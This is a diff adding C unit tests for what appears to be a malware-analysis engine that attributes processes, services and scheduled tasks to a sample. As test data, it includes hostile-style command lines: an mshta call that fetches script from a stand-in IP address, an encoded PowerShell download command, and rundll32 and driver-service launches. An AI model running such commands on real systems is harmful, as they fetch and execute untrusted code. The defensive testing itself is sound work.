@@ -275,6 +275,71 @@ static void brokers_errands_are_the_trees(void **state)
     assert_false(kk_ledger_file(ledger, KK_STR("C:\\Windows\\System32\\Tasks\\Microsoft\\Defrag"))->in_tree);
 }
 
+static void a_service_is_the_trees_by_what_it_runs(void **state)
+{
+    world *self = *state;
+    kk_process_id sample = starts(self, self->explorer, SAMPLE, SAMPLE);
+    writes(self, sample, "C:\\ProgramData\\x\\ring.sys");
+    SEE(self->services, KK_OP_REG_SET_VALUE,
+        PATH("HKLM\\System\\CurrentControlSet\\Services\\Qwerty_1\\ImagePath"),
+        {KK_FIELD_REGISTRY_DATA, "\\??\\C:\\ProgramData\\x\\ring.sys", 0},
+        {KK_FIELD_REGISTRY_TYPE, "REG_EXPAND_SZ", 0});
+    SEE(self->services, KK_OP_REG_SET_VALUE,
+        PATH("HKLM\\System\\CurrentControlSet\\Services\\Other\\ImagePath"),
+        {KK_FIELD_REGISTRY_DATA, "C:\\Windows\\other.exe", 0}, {KK_FIELD_REGISTRY_TYPE, "REG_EXPAND_SZ", 0});
+    find_sample(self, "sample.exe");
+    assert_int_equal(kk_case_on_behalf(self->analysis, self->services,
+                                       KK_STR("HKLM\\System\\CurrentControlSet\\Services\\Qwerty_1\\Start")),
+                     sample);
+    assert_int_equal(kk_case_on_behalf(self->analysis, self->services,
+                                       KK_STR("HKLM\\System\\CurrentControlSet\\Services\\Other\\Start")),
+                     KK_NO_PROCESS);
+}
+
+/* The severity of a finding about a task that Task Scheduler registered while `asker`, if any, was there. */
+static kk_severity severity_of_a_task(world *self, const char *asker, bool while_it_runs)
+{
+    kk_process_id sample = starts(self, self->explorer, SAMPLE, SAMPLE);
+    if (asker) {
+        starts(self, self->services, "C:\\Windows\\System32\\schtasks.exe", asker);
+    }
+    if (!while_it_runs) {
+        self->source->source.processes.items[sample]->end_time = self->source->clock;
+        self->source->clock += 60 * INT64_C(10000000);
+    }
+    kk_event event = SEE(self->scheduler, KK_OP_CREATE_FILE, PATH("C:\\Windows\\System32\\Tasks\\Qzxv"),
+                         {KK_FIELD_FILE_OPEN_RESULT, "Created", 0});
+    kk_rule_info info = {KK_STR("a.b"), KK_STR("t"), KK_HIGH, NULL, 0, false};
+    uint32_t rule = kk_case_add_rule(self->analysis, &info);
+    kk_finding *finding =
+        kk_case_finding(self->analysis, rule, self->scheduler, KK_STR("qzxv"), &event, -1, &self->scratch);
+    assert_non_null(finding);
+    find_sample(self, "sample.exe");
+    kk_case_weigh(self->analysis);
+    return finding->severity;
+}
+
+static void what_nobody_else_can_have_asked_for_is_the_trees(void **state)
+{
+    static const struct {
+        const char *asker;
+        bool while_it_runs;
+        kk_severity severity;
+    } CASES[] = {
+        {NULL, true, KK_HIGH},
+        {"schtasks /create /tn Other /tr x", true, KK_HIGH},
+        {"schtasks /create /tn Qzxv /tr x", true, KK_MEDIUM},
+        {NULL, false, KK_MEDIUM},
+    };
+    (void)state;
+    for (size_t i = 0; i < sizeof CASES / sizeof *CASES; i++) {
+        void *own;
+        open_world(&own);
+        assert_int_equal(severity_of_a_task(own, CASES[i].asker, CASES[i].while_it_runs), CASES[i].severity);
+        close_world(&own);
+    }
+}
+
 static void children_are_in_order_of_start(void **state)
 {
     world *self = *state;
@@ -336,6 +401,100 @@ static void a_script_is_a_sample_through_its_host(void **state)
     assert_int_equal(kk_case_sample(self->analysis), host);
     kk_str reason = kk_case_sample_reason(self->analysis);
     assert_memory_equal(reason.data, "Explorer started it with invoice 1.js from Downloads", reason.size);
+}
+
+static void assert_reason(const world *self, const char *wanted)
+{
+    kk_str reason = kk_case_sample_reason(self->analysis);
+    assert_int_equal(reason.size, strlen(wanted));
+    assert_memory_equal(reason.data, wanted, reason.size);
+}
+
+static void hosts_are_samples_by_what_they_were_told(void **state)
+{
+    static const struct {
+        const char *host, *command_line, *folder, *reason;
+    } TOLD[] = {
+        {"rundll32.exe", "rundll32 C:/Users/Public/Music/a.db,Start", NULL,
+         "with a.db from C:/Users/Public/Music"},
+        {"mshta.exe", "mshta http://203.0.113.5/a", NULL, "with an address on the web"},
+        {"powershell.exe",
+         "powershell -e JABzAD0AJwBoAHQAdABwADoALwAvADIAMAAzAC4AMAAuADEAMQAzAC4AOQA5AC8AYQAnADsAaQB3", NULL,
+         "with an encoded command"},
+        {"cmd.exe", "\"C:\\Windows\\System32\\cmd.exe\" /c start rundll32 a\\b.dat,#1", "F:\\", "in F:\\"},
+        {"cmd.exe", "\"C:\\Windows\\System32\\cmd.exe\" /c dir", "C:\\Users\\bob\\", NULL},
+        {"cmd.exe", "\"C:\\Windows\\System32\\cmd.exe\"", "F:\\", NULL},
+        {"winword.exe", "winword https://example.com/a.docx", NULL, NULL},
+        {"notepad.exe", "notepad C:\\Users\\bob\\a.txt", "F:\\", NULL},
+    };
+    (void)state;
+    for (size_t i = 0; i < sizeof TOLD / sizeof *TOLD; i++) {
+        void *own;
+        open_world(&own);
+        world *self = own;
+        char image[64];
+        snprintf(image, sizeof image, "C:\\Windows\\System32\\%s", TOLD[i].host);
+        kk_process_id host = starts(self, self->explorer, image, TOLD[i].command_line);
+        if (TOLD[i].folder) {
+            self->source->source.processes.items[host]->current_directory = kk_str_of(TOLD[i].folder);
+        }
+        find_sample(self, NULL);
+        assert_int_equal(kk_case_sample(self->analysis), TOLD[i].reason ? host : KK_NO_PROCESS);
+        if (TOLD[i].reason) {
+            char reason[128];
+            snprintf(reason, sizeof reason, "Explorer started it %s", TOLD[i].reason);
+            assert_reason(self, reason);
+        }
+        close_world(&own);
+    }
+}
+
+static void what_began_it_all_is_the_sample(void **state)
+{
+    world *self = *state;
+    kk_process_id wmi = fake_process(self->source, 900, self->services, "WmiPrvSE.exe",
+                                     "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", NULL, BEFORE);
+    kk_process_id host =
+        starts(self, wmi, "C:\\Windows\\System32\\rundll32.exe", "rundll32 C:\\Users\\Public\\a.dll,Start");
+    kk_process_id shell = starts(self, host, "C:\\Windows\\System32\\cmd.exe", "cmd /c x");
+    kk_process_id below = starts(self, shell, DROP, DROP);
+    writes(self, below, "C:\\Users\\bob\\a.dll");
+    find_sample(self, NULL);
+    assert_int_equal(kk_case_sample(self->analysis), host);
+}
+
+static void what_a_program_made_is_not_the_sample(void **state)
+{
+    world *self = *state;
+    kk_process_id linker =
+        starts(self, self->explorer, "C:\\Program Files\\Tools\\link.exe", "link /OUT:a.exe");
+    writes(self, linker, "C:\\Users\\bob\\project\\a.exe");
+    kk_process_id built = starts(self, self->explorer, "C:\\Users\\bob\\project\\a.exe", "a.exe");
+    find_sample(self, NULL);
+    assert_int_equal(kk_case_sample(self->analysis), KK_NO_PROCESS);
+    assert_tie(self, built, KK_TIE_NONE, KK_NO_PROCESS);
+}
+
+static void what_an_archive_tool_unpacked_is_the_sample(void **state)
+{
+    world *self = *state;
+    kk_process_id archiver = starts(self, self->explorer, "C:\\Program Files\\7-Zip\\7zFM.exe", "7zFM.exe");
+    writes(self, archiver, "C:\\Users\\bob\\AppData\\Local\\Temp\\7zO1\\a.exe");
+    kk_process_id sample =
+        starts(self, archiver, "C:\\Users\\bob\\AppData\\Local\\Temp\\7zO1\\a.exe", "a.exe");
+    find_sample(self, NULL);
+    assert_int_equal(kk_case_sample(self->analysis), sample);
+}
+
+static void a_management_agents_shell_is_no_users(void **state)
+{
+    world *self = *state;
+    kk_process_id agent =
+        starts(self, self->services, "C:\\Windows\\System32\\winrshost.exe", "winrshost -Embedding");
+    kk_process_id shell = starts(self, agent, "C:\\Windows\\System32\\cmd.exe", "cmd /c x");
+    starts(self, shell, "C:\\Windows\\System32\\msiexec.exe", "msiexec /i C:\\Windows\\Temp\\a.msi /qn");
+    find_sample(self, NULL);
+    assert_int_equal(kk_case_sample(self->analysis), KK_NO_PROCESS);
 }
 
 static void interpreters_count_by_what_they_run(void **state)
@@ -571,10 +730,17 @@ int main(void)
         WORLD_TEST(services_start_what_the_tree_registered),
         WORLD_TEST(wmi_starts_what_the_tree_asked_for),
         WORLD_TEST(brokers_errands_are_the_trees),
+        WORLD_TEST(a_service_is_the_trees_by_what_it_runs),
+        WORLD_TEST(what_nobody_else_can_have_asked_for_is_the_trees),
         WORLD_TEST(children_are_in_order_of_start),
         WORLD_TEST(a_guess_takes_the_most_consequential),
         WORLD_TEST(nothing_plausible_gives_no_sample),
         WORLD_TEST(a_script_is_a_sample_through_its_host),
+        WORLD_TEST(hosts_are_samples_by_what_they_were_told),
+        WORLD_TEST(what_began_it_all_is_the_sample),
+        WORLD_TEST(what_a_program_made_is_not_the_sample),
+        WORLD_TEST(what_an_archive_tool_unpacked_is_the_sample),
+        WORLD_TEST(a_management_agents_shell_is_no_users),
         WORLD_TEST(interpreters_count_by_what_they_run),
         WORLD_TEST(a_sample_started_by_a_sandboxs_agent),
         cmocka_unit_test(folders_of_other_languages_and_versions_are_users_folders),
